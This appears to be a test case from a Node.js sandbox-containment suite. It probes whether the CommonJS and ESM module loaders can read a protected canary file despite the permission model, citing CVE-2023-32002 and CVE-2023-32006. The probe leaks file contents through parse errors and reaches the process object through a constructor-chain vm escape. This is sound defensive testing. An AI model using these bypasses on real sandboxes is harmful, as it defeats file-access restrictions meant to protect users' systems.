/*---
id: pm-module-loader
title: Make the module loaders read canary.txt
category: permission-model
goal: Get canary.txt's contents out through the CommonJS and ESM loaders (their own file reads, their error messages) instead of node:fs.
technique: Module._load and createRequire (the CVE-2023-32002/32006 loader entry points) read the file and parse it as JavaScript, whose syntax or reference error quotes the token; Module._extensions['.json'] reads it as JSON.
references: CVE-2023-32002, CVE-2023-32006, https://nodejs.org/api/permissions.html#file-system-permissions, https://nodejs.org/api/module.html#modulecreaterequirefilename
expect: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped; process = escaped; process+vm = escaped
expect-hardened: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped
---*/
const P =
  typeof process !== 'undefined'
    ? process
    : (() => {
        try {
          return this.constructor.constructor('return process')();
        } catch {
          return undefined;
        }
      })();
const results = {};
const tell = (name, e) => {
  results[name] = String((e && e.stack) || e)
    .split('\n')
    .slice(0, 3)
    .join(' | ')
    .slice(0, 200);
};
function probe() {
  const Module = P.getBuiltinModule('node:module');
  const runDir = P.cwd().endsWith('/jail') ? P.cwd().slice(0, -'/jail'.length) : P.cwd();
  const target = `${runDir}/canary.txt`;
  try {
    Module._load(target, null, false);
    results._load = 'loaded?';
  } catch (e) {
    tell('_load', e);
  }
  try {
    Module.createRequire(`${runDir}/jail/x.js`)('../canary.txt');
    results.createRequire = 'loaded?';
  } catch (e) {
    tell('createRequire', e);
  }
  try {
    Module._extensions['.json']({ exports: {} }, target);
    results.json = 'loaded?';
  } catch (e) {
    tell('json', e);
  }
  console.log('loaders:', JSON.stringify(results));
  return results;
}
P ? probe() : 'no process object';
